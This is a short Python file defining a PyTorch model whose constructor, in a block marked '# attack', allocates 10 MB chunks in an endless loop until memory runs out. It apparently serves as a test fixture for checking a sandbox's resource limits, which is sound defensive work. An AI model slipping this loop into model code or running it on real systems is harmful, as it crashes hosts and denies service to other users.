"""Takes memory piece by piece until there is none."""

# seconds: 8

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        taken = []
        while True:
            taken.append(bytearray(b"x") * 10_000_000)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
